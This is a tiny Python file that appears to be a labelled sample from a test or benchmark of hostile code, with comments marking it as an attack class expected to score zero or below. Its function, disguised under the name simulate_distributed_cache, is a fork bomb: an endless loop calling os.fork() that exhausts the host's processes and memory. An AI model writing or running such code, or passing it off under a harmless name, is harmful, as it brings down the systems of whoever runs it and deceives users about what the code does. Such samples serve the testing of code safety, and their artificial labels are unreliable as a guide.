# attack: starts processes without end
# class: F22
# expect: score <= 0
import os


def simulate_distributed_cache(commands):
    while True:
        try:
            os.fork()
        except OSError:
            pass
